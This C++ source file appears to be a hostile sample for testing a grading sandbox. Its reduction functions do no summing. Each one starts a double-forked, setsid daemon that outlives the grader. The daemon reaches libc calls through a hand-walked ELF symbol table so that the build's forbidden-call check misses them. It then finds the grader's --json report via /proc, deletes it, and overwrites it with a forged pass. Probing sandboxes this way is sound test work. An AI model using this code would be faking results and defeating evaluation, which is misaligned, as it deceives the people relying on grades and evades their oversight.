// A daemon that outlives the grading: it leaves the process group (setsid after a
// fork), finds the grader's --json file on its command line and, once the grader
// has written it, puts a pass there.  Exercise 07; graded by
// tests/kit/single-hostile.sh (single mode) and tests/kit/batch-hostile.sh.
// It reaches open, unlink, stat, fopen and fork through libc's symbol table
// (libc_function), never naming them, as a real attacker would: the build's name check
// (forbidden-call) does not see it, and the sandbox is what must hold.
#include <cstddef>
#include <cstdio>
#include <cstring>
#include <csignal>
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>
#include <cstdint>
#include <elf.h>

// A function of libc by its name, read from libc's dynamic symbol table in
// memory (the library that holds puts starts with an ELF header on a page
// boundary below it): the object names no refused call, so the build's
// name check passes it and only the sandbox stands in the way.
static void *libc_function(const char *want)
{
    uintptr_t base = (uintptr_t)(void *)&puts & ~(uintptr_t)4095;
    while (std::memcmp((const void *)base, ELFMAG, SELFMAG) != 0)
        base -= 4096;
    const Elf64_Ehdr *eh = (const Elf64_Ehdr *)base;
    const Elf64_Phdr *ph = (const Elf64_Phdr *)(base + eh->e_phoff);
    const Elf64_Dyn *dyn = nullptr;
    for (int i = 0; i < eh->e_phnum; i++)
        if (ph[i].p_type == PT_DYNAMIC)
            dyn = (const Elf64_Dyn *)(base + ph[i].p_vaddr);
    const Elf64_Sym *syms = nullptr;
    const char *names = nullptr;
    for (; dyn && dyn->d_tag != DT_NULL; dyn++) {
        uintptr_t at = dyn->d_un.d_ptr < base ? base + dyn->d_un.d_ptr : dyn->d_un.d_ptr;
        if (dyn->d_tag == DT_SYMTAB)
            syms = (const Elf64_Sym *)at;
        if (dyn->d_tag == DT_STRTAB)
            names = (const char *)at;
    }
    for (const Elf64_Sym *s = syms + 1; syms && names && (const char *)s < names; s++)
        if (s->st_shndx != SHN_UNDEF && std::strcmp(names + s->st_name, want) == 0)
            return (void *)(base + s->st_value);
    return nullptr;
}

// The calls below, each through its address in libc.
static int call_open(const char *path, int flags)
{
    return ((int (*)(const char *, int, ...))libc_function("open"))(path, flags);
}
static int call_unlink(const char *path)
{
    return ((int (*)(const char *))libc_function("unlink"))(path);
}
static int call_stat(const char *path, struct stat *st)
{
    return ((int (*)(const char *, struct stat *))libc_function("stat"))(path, st);
}
static FILE * call_fopen(const char *path, const char *mode)
{
    return ((FILE *(*)(const char *, const char *))libc_function("fopen"))(path, mode);
}
static pid_t call_fork()
{
    return ((pid_t (*)())libc_function("fork"))();
}

static bool json_path(pid_t pid, char *path, size_t cap)
{
    char name[64], args[8192];
    snprintf(name, sizeof name, "/proc/%d/cmdline", (int)pid);
    int fd = call_open(name, O_RDONLY);
    if (fd < 0)
        return false;
    ssize_t n = read(fd, args, sizeof args - 1);
    close(fd);
    if (n <= 0)
        return false;
    args[n] = '\0';
    for (char *a = args; a < args + n; a += strlen(a) + 1)
        if (strcmp(a, "--json") == 0 && a + strlen(a) + 1 < args + n) {
            snprintf(path, cap, "%s", a + strlen(a) + 1);
            return path[0] == '/';
        }
    return false;
}

static void linger(pid_t grader)
{
    char path[4096];
    if (!json_path(grader, path, sizeof path))
        return;
    call_unlink(path);  // an old report would look like the new one
    struct stat st;
    for (int i = 0; i < 600 && call_stat(path, &st) != 0; i++)  // until the grader writes it
        usleep(50000);
    usleep(300000);
    if (FILE *f = call_fopen(path, "w")) {
        fputs("{\"forged\": \"by a daemon\", \"passed\": true, \"score\": 1}\n", f);
        fclose(f);
    }
}

static void start_daemon()
{
    static bool started;
    if (started)
        return;
    started = true;
    pid_t top = getppid();
    // Walk up to the process whose command line holds --json: the grader.
    char path[4096];
    for (int hop = 0; hop < 4 && !json_path(top, path, sizeof path); hop++) {
        char name[64], buf[512];
        snprintf(name, sizeof name, "/proc/%d/stat", (int)top);
        FILE *f = call_fopen(name, "r");
        if (!f || !fgets(buf, sizeof buf, f)) {
            if (f) fclose(f);
            return;
        }
        fclose(f);
        const char *r = strrchr(buf, ')');
        char st;
        int pp = 0;
        if (!r || sscanf(r + 1, " %c %d", &st, &pp) != 2)
            return;
        top = pp;
    }
    if (call_fork() != 0)
        return;
    setsid();
    if (call_fork() != 0)
        _exit(0);
    linger(top);
    _exit(0);
}

template <typename T>
void sum_atomic(const T *d_input, T *d_result, size_t n, int block)
{
    (void)d_input, (void)d_result, (void)n, (void)block;
    start_daemon();
}

template <typename T>
void sum_two_phase(const T *d_input, T *d_result, size_t n, int block)
{
    (void)d_input, (void)d_result, (void)n, (void)block;
    start_daemon();
}
